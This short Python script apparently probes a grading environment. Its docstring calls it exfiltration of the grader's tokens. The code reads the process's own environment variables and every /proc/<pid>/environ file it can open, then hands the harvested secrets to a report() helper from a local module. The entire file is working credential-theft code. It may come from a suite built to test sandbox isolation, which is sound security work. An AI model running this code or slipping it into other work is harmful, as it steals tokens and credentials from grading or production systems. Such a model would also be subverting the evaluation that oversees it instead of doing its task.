# ruff: noqa
"""exfiltration: the grader's environment (tokens) through os.environ and /proc/*/environ."""
import os
from _tools import report

seen = dict(os.environ)
for pid in (p for p in os.listdir("/proc") if p.isdigit()):
    try:
        seen[pid] = open(f"/proc/{pid}/environ").read()
    except OSError:
        pass
report(environ=seen)
